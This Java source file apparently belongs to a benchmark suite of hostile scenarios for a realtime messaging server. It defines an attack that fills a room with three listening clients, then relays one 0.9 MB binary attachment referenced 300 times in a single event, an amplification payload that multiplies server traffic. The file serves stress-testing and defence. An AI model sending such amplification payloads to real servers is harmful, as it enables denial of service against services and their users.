package dev.realtime.benchmarks.hostile;

import java.util.concurrent.atomic.AtomicLong;

/** An event that refers to its one attachment of 0.9 MB three hundred times is relayed to a room. */
final class RepeatedAttachment implements Attack {
    private static final int REFERENCES = 300;

    private final AtomicLong received = new AtomicLong();

    @Override
    public String name() {
        return "repeated-attachment";
    }

    @Override
    public String run(Intruders intruders) throws Exception {
        for (int i = 0; i < 3; i++) {
            WireClient victim = intruders.keep(intruders.dialer().connect());
            victim.send("42[\"enter\",\"all\"]");
            intruders.run(() -> {
                while (true) {
                    if (victim.read().isEmpty()) {
                        received.incrementAndGet();
                    }
                }
            });
        }
        WireClient client = intruders.connect();
        String placeholder = "{\"_placeholder\":true,\"num\":0}";
        client.send("451-[\"relay\",[" + (placeholder + ",").repeat(REFERENCES - 1) + placeholder + "]]");
        client.send(new byte[900_000]);
        Thread.sleep(12_000);
        return received + " attachments received by three in the room";
    }
}
